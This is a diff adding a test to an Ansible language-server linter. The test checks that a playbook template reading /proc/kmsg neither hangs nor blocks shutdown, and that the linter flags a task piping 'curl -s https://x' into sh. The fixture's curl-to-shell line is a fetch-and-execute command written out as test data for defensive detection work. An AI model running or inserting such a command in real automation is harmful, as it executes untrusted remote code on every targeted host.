@@ -258,6 +258,22 @@ describe('files that change under the server', () => {
   });
 });
 
+describe('files outside the project named by a document', () => {
+  for (const trusted of [true, false]) {
+    it(`a template under /proc neither blocks the server nor keeps it from stopping (${trusted ? '' : 'un'}trusted workspace)`, { timeout: 30_000 }, async () => {
+      const ws = path.join(scratch, `proc-${trusted}`);
+      const file = write(path.join(ws, 'site.yml'), '- hosts: all\n  tasks:\n    - template: src=/proc/kmsg dest=/etc/x\n    - shell: curl -s https://x | sh\n');
+      const lsp = await session({ workspace: ws, trusted });
+      await open(lsp, file, readFileSync(file, 'utf8'));
+      assert.deepEqual(
+        (await lsp.diagnostics(file)).map((diagnostic) => diagnostic.code),
+        ['remote-script-piped-to-shell'],
+      );
+      assert.equal(await lsp.terminate(), 'SIGTERM');
+    });
+  }
+});
+
 describe('pragmas, config file and settings', () => {
   const ws = path.join(scratch, 'config');
   write(path.join(ws, '.hindsight.yaml'), 'rules:\n  first-boot-package-upgrade: error\n');
